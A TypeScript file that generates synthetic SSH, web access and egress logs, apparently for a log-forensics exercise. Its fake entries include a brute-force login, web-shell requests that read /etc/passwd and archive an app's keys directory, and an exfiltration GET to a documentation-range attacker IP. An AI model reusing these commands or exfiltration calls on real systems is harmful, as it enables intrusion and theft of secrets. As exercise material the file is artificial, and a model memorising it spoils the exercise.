import { Dice } from './dice.js';

/** Addresses for documentation, which are nobody's. */
export const ATTACKER = '203.0.113.77';
/** Tries more passwords than the attacker, and never gets in. */
const LOUDEST = '198.51.100.23';
export const ACCOUNT = 'deploy';
export const WEB_SHELL = '/uploads/.cache/thumb.php';

export const AUTH_LINES = 20_000;
const AUTH_STEP_MS = 4_200;
const ACCESS_LINES = 8_000;
const ACCESS_STEP_MS = 10_500;
const START = Date.UTC(2026, 2, 14);
/** The attacker guesses in this part of the night, and gets in at its end. */
const GUESSING = { from: 0.55, to: 0.6 };

const USERS = ['root', 'admin', 'test', 'oracle', 'postgres', 'git', 'ubuntu', 'deploy', 'backup'];
const PAGES = [
  '/',
  '/login',
  '/courses',
  '/static/app.js',
  '/static/app.css',
  '/api/me',
  '/favicon.ico',
  '/admin',
];
const STATUSES = [200, 200, 200, 304, 404];

const DICE_SEED = 1_403;

function strangers(dice: Dice): string[] {
  return Array.from(
    { length: 60 },
    () => `${dice.pick(['192.0.2', '198.51.100', '203.0.113'])}.${100 + dice.below(140)}`,
  );
}

export function authLog(): string {
  const dice = new Dice(DICE_SEED);
  const noise = strangers(dice);
  const keys = Array.from({ length: 3 }, () => dice.bytes(32).toString('base64').slice(0, 43));
  const entry = Math.floor(AUTH_LINES * GUESSING.to);
  const lines = Array.from({ length: AUTH_LINES }, (_, index) => {
    const at = new Date(START + index * AUTH_STEP_MS);
    const who = `Mar ${at.getUTCDate()} ${at.toISOString().slice(11, 19)} web01`;
    const sshd = `${who} sshd[${1_000 + dice.below(30_000)}]:`;
    const port = `port ${1_024 + dice.below(60_000)} ssh2`;
    const [part, chance] = [index / AUTH_LINES, dice.roll()];
    if (index === entry) return `${sshd} Accepted password for ${ACCOUNT} from ${ATTACKER} ${port}`;
    if (part > GUESSING.from && part < GUESSING.to && chance < 0.6)
      return `${sshd} Failed password for ${ACCOUNT} from ${ATTACKER} ${port}`;
    if (chance < 0.06) return `${sshd} Failed password for root from ${LOUDEST} ${port}`;
    if (chance < 0.55) {
      const user = dice.pick(USERS);
      const invalid = dice.roll() < 0.6 ? 'invalid user ' : '';
      return `${sshd} Failed password for ${invalid}${user} from ${dice.pick(noise)} ${port}`;
    }
    if (chance < 0.8)
      return `${who} CRON[${1_000 + dice.below(30_000)}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`;
    return `${sshd} Accepted publickey for admin from 10.0.0.${2 + dice.below(6)} ${port}: ED25519 SHA256:${dice.pick(keys)}`;
  });
  return `${lines.join('\n')}\n`;
}

export function accessLog(): string {
  const dice = new Dice(DICE_SEED + 1);
  const noise = strangers(dice);
  const line = (
    index: number,
    address: string,
    request: string,
    status: number,
    bytes: number,
    agent: string,
  ) => {
    const at = new Date(START + index * ACCESS_STEP_MS);
    const time = `${at.getUTCDate()}/Mar/2026:${at.toISOString().slice(11, 19)} +0530`;
    return `${address} - - [${time}] "${request} HTTP/1.1" ${status} ${bytes} "-" "${agent}"`;
  };
  const uses = new Map(
    [
      'id',
      'uname%20-a',
      'cat%20/etc/passwd',
      'ls%20-la%20/srv/app',
      'tar%20czf%20/tmp/.x%20/srv/app/keys',
    ].map((command, order) => [Math.floor(ACCESS_LINES * 0.62) + order * 7, command]),
  );
  const lines = Array.from({ length: ACCESS_LINES }, (_, index) => {
    const command = uses.get(index);
    if (command)
      return line(
        index,
        ATTACKER,
        `GET ${WEB_SHELL}?c=${command}`,
        200,
        40 + dice.below(2_000),
        'curl/8.5.0',
      );
    return line(
      index,
      dice.pick(noise),
      `GET ${dice.pick(PAGES)}`,
      dice.pick(STATUSES),
      dice.below(20_000),
      'Mozilla/5.0',
    );
  });
  return `${lines.join('\n')}\n`;
}

/** What web01 sent out. `token` is the part that left in disguise. */
export function egressLog(token: string): string {
  const dice = new Dice(DICE_SEED + 2);
  const usual = [
    'http://mirror.example.net/debian/dists/bookworm/InRelease',
    'http://ntp.web01.internal/',
    'http://mirror.web01.internal/health',
  ];
  const lines = Array.from({ length: 60 }, (_, index) => {
    const time = new Date(START + index * 1_400_000).toISOString().slice(0, 19);
    const url = index === 41 ? `http://${ATTACKER}:8000/c?d=${token}` : dice.pick(usual);
    return `${time} web01 GET ${url} 200 ${index === 41 ? 2 : dice.below(9_000)}`;
  });
  return `${lines.join('\n')}\n`;
}
